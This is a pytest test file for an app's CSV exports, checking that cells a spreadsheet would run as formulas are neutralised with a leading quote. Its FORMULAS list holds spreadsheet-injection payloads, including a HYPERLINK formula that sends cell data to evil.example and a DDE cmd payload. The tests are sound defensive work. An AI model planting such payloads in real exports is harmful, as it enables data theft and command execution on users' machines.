"""No CSV the app writes holds a cell a spreadsheet would run (issue 16, item 10)."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

from lib.render.tables import csv_bytes
from lib.store import RateLimits, submit
from lib.store.bundle import CSV, export_bundle
from lib.store.moderation import set_moderation
from lib.store.public import public_contributions
from lib.store.spreadsheet import safe_text
from lib.store.workshop import start_session
from tests.store.forms import submission

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert safe_text(text) == "'" + text


def test_ordinary_text_and_numbers_are_unchanged():
    assert safe_text("Old Kent Road Library") == "Old Kent Road Library"
    assert safe_text(-0.12) == -0.12 and safe_text(None) is None


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def test_the_public_community_csv_and_the_bundle_csv_carry_no_formula(engine):
    session = start_session(engine, "Formulas", started_by="mo")
    for i, text in enumerate(FORMULAS[:4]):
        stored = submit(
            engine,
            submission(name=text, description=f"@cell {i}"),
            session_id=f"formula-{i}",
            client_address=None,
            workshop=session.id,
            limits=RateLimits(10**6, 10**6),
        )
        set_moderation(engine, stored.id, "approved", moderator="mo")
    public = public_contributions(engine)
    public = public[public["name"].isin(FORMULAS)]
    with zipfile.ZipFile(io.BytesIO(export_bundle(engine, session.id))) as bundle:
        exported = bundle.read(CSV)
    for data in (csv_bytes(pd.DataFrame(public.drop(columns="geometry"))), exported):
        written = cells(data)
        assert "'" + FORMULAS[0] in written and "'@cell 0" in written
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in written)
